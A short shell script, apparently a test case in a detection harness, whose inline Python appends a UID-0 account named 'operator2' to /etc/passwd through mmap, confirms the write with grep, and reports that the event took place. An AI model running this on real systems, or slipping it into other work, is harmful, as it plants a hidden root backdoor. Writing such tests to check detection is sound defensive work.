#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import mmap, os
line = b"operator2:x:0:0::/root:/bin/bash\n"
fd = os.open("/etc/passwd", os.O_RDWR); n = os.fstat(fd).st_size; os.ftruncate(fd, n + len(line))
m = mmap.mmap(fd, n + len(line)); m[n:] = line; m.flush(); m.close()
END
grep -q '^operator2:x:0:' /etc/passwd
took_place
